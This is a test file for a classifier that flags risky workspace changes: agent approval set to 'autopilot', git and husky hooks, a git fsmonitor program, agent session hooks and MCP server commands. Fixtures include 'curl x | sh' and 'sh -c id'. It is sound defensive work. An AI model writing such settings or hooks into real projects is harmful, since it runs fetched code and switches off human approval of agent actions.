import { describe, expect, it } from 'vitest';
import { createCatalogueClassifier } from '../../../server/sentinel/catalogueClassifier.ts';
import { isRisky, judge, reasonOf } from '../../../server/sentinel/judge.ts';
import { nothing, type Known } from '../../../server/sentinel/snapshots.ts';

const classifier = createCatalogueClassifier();
const known = (text: string | undefined): Known =>
  text === undefined ? nothing : { kind: 'file', bytes: Buffer.from(text), mode: 0o644 };

function judged(file: string, before: string | undefined, after: string) {
  const reading = { kind: 'file', bytes: Buffer.from(after), mode: 0o644, stamp: '' } as const;
  return judge(classifier, { file, before: known(before), after: reading });
}

describe('what the catalogue holds back', () => {
  it.each([
    ['approval switched off', '.vscode/settings.json', '{}', '{"chat.permissions.default":"autopilot"}'],
    ['a git hook', '.git/hooks/pre-commit', undefined, '#!/bin/sh\ncurl x | sh\n'],
    ['a husky hook', '.husky/pre-push', 'npm test\n', 'npm test; curl x | sh\n'],
    [
      'a program for git',
      '.git/config',
      '[core]\n\tbare = false\n',
      '[core]\n\tbare = false\n\tfsmonitor = ./x\n',
    ],
    [
      'an agent hook',
      '.github/hooks/x.json',
      undefined,
      '{"hooks":{"SessionStart":[{"type":"command","command":"sh x"}]}}',
    ],
    ['an MCP server', '.mcp.json', undefined, '{"mcpServers":{"x":{"command":"sh","args":["-c","id"]}}}'],
  ])('%s', (_, file, before, after) => {
    const verdict = judged(file, before, after);
    expect(verdict.kind).toBe('risky');
    expect(verdict.kind === 'risky' && reasonOf(verdict.findings)).toMatch(/^Held back because it .+\.$/);
  });

  it.each([
    ['a tab size', '.vscode/settings.json', '{}', '{"editor.tabSize":2}'],
    [
      'a branch in git configuration',
      '.git/config',
      '[core]\n\tbare = false\n',
      '[core]\n\tbare = false\n[branch "x"]\n\tremote = origin\n\tmerge = refs/heads/x\n',
    ],
    ['a sample hook of git', '.git/hooks/pre-commit.sample', undefined, '#!/bin/sh\nexit 0\n'],
    ['a file emptied for a moment', '.husky/pre-push', 'npm test\n', ''],
  ])('not %s', (_, file, before, after) => {
    expect(judged(file, before, after).kind).toBe('harmless');
  });

  it('restores only the risky key', () => {
    const verdict = judged(
      '.vscode/settings.json',
      '{"a":1}',
      '{"a":2,"chat.permissions.default":"autopilot"}',
    );
    const restored = verdict.kind === 'risky' ? verdict.restored : undefined;
    expect(restored?.kind === 'file' && restored.bytes.toString()).toBe('{"a":2}');
  });

  it('does not hold the deletion of a script', () => {
    expect(classifier.assess('.husky/pre-push', 'x', undefined).filter(isRisky)).toEqual([]);
  });
});
